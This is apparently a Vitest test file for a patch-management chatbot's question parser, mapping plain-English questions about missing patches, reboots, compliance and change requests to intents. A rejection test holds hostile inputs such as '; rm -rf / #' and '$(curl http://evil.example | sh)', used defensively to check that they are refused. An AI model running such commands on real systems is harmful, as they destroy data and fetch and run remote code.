import { describe, expect, it } from 'vitest';
import type { Intent } from './intent.ts';
import { matchQuestion, NOT_UNDERSTOOD, parseQuestion } from './questions.ts';
import { understand } from './understand.ts';

const missing = (patch: string, target: string | null = null): Intent => ({ kind: 'missing', patch, target });
const status = (host: string): Intent => ({ kind: 'status', host });
const pending = (target: string | null = null): Intent => ({ kind: 'pending', target });
const reboots = (target: string | null = null): Intent => ({ kind: 'reboots', target });
const compliance = (standard: 'pci' | 'hipaa' | null, target: string | null = null): Intent => ({ kind: 'compliance', standard, target });

/** The answer to a proposal that says "asap" or "urgently" but not `emergency`: both commands, no guess. */
const notAnEmergency = (word: string, rest: string): Intent => ({
  kind: 'help',
  topic: 'propose',
  note: `"${word}" does not make an emergency change. For one (it starts now, under the emergency approval, and is reviewed afterwards): \`propose KB5034441 to staging${rest} emergency\`. For the next maintenance window: \`propose KB5034441 to staging${rest}\`.`,
});

describe('matchQuestion', () => {
  it.each<[string, Intent]>([
    // missing <patch>
    ['which servers are missing KB5034441?', missing('KB5034441')],
    ['Which hosts are missing kb5034441', missing('KB5034441')],
    ['what machines lack KB5034441', missing('KB5034441')],
    ['who is missing KB5034441?', missing('KB5034441')],
    ['which prod-web servers are missing KB5034441?', missing('KB5034441', 'prod-web')],
    ['which servers in prod-web are missing KB5034441', missing('KB5034441', 'prod-web')],
    ['which servers are missing KB5034441 in prod-web?', missing('KB5034441', 'prod-web')],
    ['is KB5034441 missing on web-01?', missing('KB5034441', 'web-01')],
    ['where is KB5034441 still missing', missing('KB5034441')],
    ['is KB5034441 installed everywhere?', missing('KB5034441')],
    ['KB5034441?', missing('KB5034441')],
    ['which boxes need DSA-5600-1', missing('DSA-5600-1')],
    ['hosts without USN-6600-1 in staging', missing('USN-6600-1', 'staging')],
    ['which VMs still need rhsa-2024:1234?', missing('RHSA-2024:1234')],
    ['Hey patchbot, can you tell me which servers are missing `KB5034441`? thanks', missing('KB5034441')],
    ['*which* servers are missing **KB5034441**', missing('KB5034441')],
    ['which servers are missing “KB5034441”?', missing('KB5034441')],
    ['which servers are missing deb:openssl@3.0.13-1~deb12u1', missing('deb:openssl@3.0.13-1~deb12u1')],
    ['which servers are missing openssl?', missing('openssl')],
    ['which hosts need curl in staging', missing('curl', 'staging')],
    ['what machines lack package libssl3', missing('libssl3')],
    // reboots
    ['who needs a reboot?', reboots()],
    ['Who needs a reboot', reboots()],
    ['which servers need rebooting?', reboots()],
    ['what needs a restart', reboots()],
    ['any pending reboots?', reboots()],
    ['which prod-web servers need a reboot?', reboots('prod-web')],
    ['who needs a reboot in staging', reboots('staging')],
    ['reboot status', reboots()],
    // status <host>
    ['status of web-01', status('web-01')],
    ['what is the status of web-01?', status('web-01')],
    ["what's the status of host web-01", status('web-01')],
    ['web-01 status', status('web-01')],
    ['how is web-01 doing?', status('web-01')],
    ['what is missing on web-01', status('web-01')],
    ["what's missing on web-01?", status('web-01')],
    ['what does web-01 need?', status('web-01')],
    ['what is web-01 missing', status('web-01')],
    ['is web-01 up to date?', status('web-01')],
    ['is WEB-01 patched', status('WEB-01')],
    ['tell me about server web-01', status('web-01')],
    // pending [group]
    ["what's pending in prod-web?", pending('prod-web')],
    ['what is pending', pending()],
    ['pending patches for staging', pending('staging')],
    ['what patches are missing in prod-web', pending('prod-web')],
    ['which updates are outstanding across prod-web', pending('prod-web')],
    ['what needs patching in staging?', pending('staging')],
    ['anything pending?', pending()],
    ['which servers need patching in staging?', pending('staging')],
    // compliance
    ['is web-01 compliant?', compliance(null, 'web-01')],
    ['are we PCI compliant?', compliance('pci')],
    ['are we compliant', compliance(null)],
    ['is prod-web HIPAA compliant', compliance('hipaa', 'prod-web')],
    ['how compliant is prod-web?', compliance(null, 'prod-web')],
    ['pci compliance for prod-web', compliance('pci', 'prod-web')],
    ['prod-web compliance', compliance(null, 'prod-web')],
    ['anything overdue?', compliance(null)],
    // changes
    ['show me CHG-12', { kind: 'show', change: 'CHG-12' }],
    ['how is chg-12 going?', { kind: 'show', change: 'CHG-12' }],
    ['CHG-12', { kind: 'show', change: 'CHG-12' }],
    ['what is the status of CHG-12', { kind: 'show', change: 'CHG-12' }],
    ['what changes are pending?', { kind: 'changes' }],
    ['list open changes', { kind: 'changes' }],
    ['what is waiting for approval?', { kind: 'changes' }],
    ['please approve CHG-7', { kind: 'approve', change: 'CHG-7', comment: null }],
    ['roll out KB5034441 to prod-web', { kind: 'propose', patches: ['KB5034441'], groups: ['prod-web'], window: null, emergency: false }],
    ['deploy KB5034441 to staging emergency', { kind: 'propose', patches: ['KB5034441'], groups: ['staging'], window: null, emergency: true }],
    // A word said in passing never picks the emergency policy (on production: one approval instead of the CAB's vote).
    ['deploy KB5034441 to staging urgently', notAnEmergency('urgently', '')],
    ['install KB5034441 to staging, not asap', notAnEmergency('asap', ' not')],
    // scan and help
    ['can you scan prod-web?', { kind: 'scan', target: 'prod-web' }],
    ['please rescan web-01 now', { kind: 'scan', target: 'web-01' }],
    ['scan everything', { kind: 'scan', target: null }],
    ['what can you do?', { kind: 'help', topic: null, note: null }],
    ['help', { kind: 'help', topic: null, note: null }],
  ])('%j', (question, intent) => {
    expect(matchQuestion(question)).toEqual(intent);
  });

  it.each([
    'what is the meaning of life?',
    'hello',
    'reboot web-01',
    'restart the database please',
    'is it friday yet',
    '🙂🙂🙂',
    '',
    '   ',
    '; rm -rf / #',
    '$(curl http://evil.example | sh)',
    'status of $(whoami)',
    'which servers are missing',
    'which hosts need attention',
  ])('does not guess: %j', (question) => {
    expect(matchQuestion(question)).toBeNull();
  });

  // Host words are folded only as whole words: never inside a host name or a patch id.
  it.each<[string, Intent]>([
    ['how is win-prod-web-app-server-0001 doing?', status('win-prod-web-app-server-0001')],
    ['is win-prod-web-app-server-0001 patched?', status('win-prod-web-app-server-0001')],
    ['which servers are missing KB5034441 on win-prod-web-app-server-0001', missing('KB5034441', 'win-prod-web-app-server-0001')],
    ['which servers are missing deb:init-system-helpers@1.65.2+deb12u1?', missing('deb:init-system-helpers@1.65.2+deb12u1')],
    ['which hosts are missing deb:bind9-host@1:9.18.28-1~deb12u2', missing('deb:bind9-host@1:9.18.28-1~deb12u2')],
    ['who is missing deb:qemu-system-x86@1:7.2+dfsg-7+deb12u7 in vm-hosts', missing('deb:qemu-system-x86@1:7.2+dfsg-7+deb12u7', 'vm-hosts')],
    ['which machines lack deb:libvirt-daemon-system@9.0.0-4+deb12u2', missing('deb:libvirt-daemon-system@9.0.0-4+deb12u2')],
    ['how is node-lts doing', status('node-lts')],
    ['is qemu-system-x86 up to date?', status('qemu-system-x86')],
    ['what does bind9-host need?', status('bind9-host')],
    ['what is missing on box-01', status('box-01')],
    // Keywords are whole words too: a host named reboot-test-01 or sla-web is a host.
    ['how is reboot-test-01 doing?', status('reboot-test-01')],
    ['is sla-web patched', status('sla-web')],
    ['which nodes need a reboot?', reboots()],
    ['which vms in staging are missing KB5034441', missing('KB5034441', 'staging')],
  ])('keeps names whole: %j', (question, intent) => {
    expect(matchQuestion(question)).toEqual(intent);
  });

  // A scope the rules could place, however it was said.
  it.each<[string, Intent]>([
    ['does staging need a reboot?', reboots('staging')],
    ['does the prod-web group need a restart', reboots('prod-web')],
    ['is web-01 waiting for a reboot', reboots('web-01')],
    ['compliance of prod-web for pci', compliance('pci', 'prod-web')],
    ['is prod-web compliant under hipaa', compliance('hipaa', 'prod-web')],
    // A slip in a keyword is not a name: it is read, not asked about.
    ['who is mising KB5034441 in staging', missing('KB5034441', 'staging')],
  ])('places the scope: %j', (question, intent) => {
    expect(matchQuestion(question)).toEqual(intent);
  });

  // Ordinary ways of asking are read, not met with a clarification ("how *many* hosts …").
  it.each<[string, Intent]>([
    ['how many hosts are missing KB5034441?', missing('KB5034441')],
    ['how many servers need a reboot?', reboots()],
    ['how many hosts are overdue in prod-web', compliance(null, 'prod-web')],
    ['which hosts are still missing KB5034441 after the last scan?', missing('KB5034441')],
    ['which servers are missing the latest KB5034441 as of now', missing('KB5034441')],
    ['number of hosts that need a reboot since the last patching', reboots()],
    ['is KB5034441 deployed everywhere yet?', missing('KB5034441')],
    ['which hosts have not got KB5034441 at the moment', missing('KB5034441')],
    ['does anybody need a reboot', reboots()],
    ['which machines are out of compliance', compliance(null)],
    ['show me the compliance report for prod-web', compliance(null, 'prod-web')],
    ['what does compliance look like for staging', compliance(null, 'staging')],
  ])('reads an ordinary question: %j', (question, intent) => {
    expect(matchQuestion(question)).toEqual(intent);
  });

  // "fleet", "estate", "general", "total": every host, unless a group or host has the name (resolve-filler.ts decides).
  it.each<[string, Intent]>([
    ["what's pending in the fleet?", { kind: 'pending', target: null, filler: 'fleet' }],
    ['which hosts across the Estate need a reboot', { kind: 'reboots', target: null, filler: 'Estate' }],
    ['is the fleet compliant', { kind: 'compliance', standard: null, target: null, filler: 'fleet' }],
    ['which servers are missing KB5034441 in general', { kind: 'missing', patch: 'KB5034441', target: null, filler: 'general' }],
    ['which prod-web hosts in the fleet need a reboot', reboots('prod-web')],
    ['which hosts are missing fleet', missing('fleet')],
    ['are we compliant', compliance(null)],
    ['what is pending across all hosts', pending()],
  ])('keeps a filler word that may be a name: %j', (question, intent) => {
    expect(matchQuestion(question)).toEqual(intent);
  });

  // What it cannot place is never dropped for an answer about every host (or another scope).
  it.each<[string, string]>([
    [
      'what is pending in prod-web and staging',
      'I could not place `prod-web staging` in that question, so I did not answer it for all hosts. Did you mean `pending prod-web` or `pending staging`? For every host: `pending`.',
    ],
    [
      'which servers are missing KB5034441 in prod-web or staging',
      'I could not place `prod-web staging` in that question, so I did not answer it for all hosts. Did you mean `missing KB5034441 in prod-web` or `missing KB5034441 in staging`? For every host: `missing KB5034441`.',
    ],
    [
      'compliance prod-web staging',
      'I could not place `prod-web staging` in that question, so I did not answer it for all hosts. Did you mean `compliance prod-web` or `compliance staging`? For every host: `compliance`.',
    ],
    [
      'compliance pci prod-web extra',
      'I could not place `prod-web extra` in that question, so I did not answer it for all hosts. Did you mean `compliance pci prod-web` or `compliance pci extra`? For every host: `compliance pci`.',
    ],
    [
      'does staging production need a reboot',
      'I could not place `staging production` in that question, so I did not answer it for all hosts. Did you mean `reboots staging` or `reboots production`? For every host: `reboots`.',
    ],
    [
      'who needs a reboot in prod-web staging',
      'I could not place `prod-web staging` in that question, so I did not answer it for all hosts. Did you mean `reboots prod-web` or `reboots staging`? For every host: `reboots`.',
    ],
    ['which servers are missing KB5034441 and KB5040000?', 'I answer for one patch at a time: `missing KB5034441`, then `missing KB5040000`.'],
    ['is kb5034441 or KB5040000 missing in prod-web', 'I answer for one patch at a time: `missing KB5034441 in prod-web`, then `missing KB5040000 in prod-web`.'],
    [
      'which prod-web hosts need a reboot in staging',
      'I could not place `prod-web` in that question (I read its scope as `staging`). I answer for one group or host at a time: `reboots staging` or `reboots prod-web`.',
    ],
  ])('asks instead of guessing: %j', (question, note) => {
    expect(matchQuestion(question)).toEqual({ kind: 'help', topic: null, note });
  });

  it("keeps the grammar's complaint for a command with one word too many, and marks a clarification not understood", () => {
    expect(understand('compliance prod-web staging', 'question')).toMatchObject({ ok: false, reason: 'bad-arguments', message: 'Unexpected `staging`.' });
    expect(understand('what is pending in prod-web and staging', 'question')).toMatchObject({ ok: true, understood: false, intent: { kind: 'help' } });
    expect(understand('does staging need a reboot', 'question')).toEqual({ ok: true, understood: true, intent: reboots('staging') });
  });

  it('turns anything it cannot place into help that says so', () => {
    expect(parseQuestion('what is the meaning of life?')).toEqual({ kind: 'help', topic: null, note: NOT_UNDERSTOOD });
    expect(NOT_UNDERSTOOD).toMatch(/^I understood none of that; try: `what's pending\?`/);
  });

  it('refuses to work on very long or hostile text', () => {
    expect(matchQuestion(`which servers are missing ${'a'.repeat(100_000)}`)).toBeNull();
    expect(matchQuestion(`${'status of '.repeat(200)}web-01`)).toBeNull();
    expect(matchQuestion('which servers are missing KB5034441 '.repeat(30))).toBeNull();
    // Inputs shaped to make a careless regex backtrack: these must simply return.
    expect(matchQuestion(`${'a '.repeat(240)}reboot`)).toEqual(reboots());
    expect(matchQuestion(`is ${'a-'.repeat(240)} compliant`)).toEqual(compliance(null, 'a-'.repeat(240)));
  });

  it('keeps unicode out of names instead of passing it on', () => {
    expect(matchQuestion('status of wéb-01')).toBeNull();
    expect(matchQuestion('which servers are missing KB5034441 in prod‐web')).toEqual(missing('KB5034441', 'prod-web'));
    expect(matchQuestion('which servers are missing KB5034441 in prod/web')).toBeNull();
    expect(matchQuestion('what is pending in prod‽web')).toBeNull();
  });
});
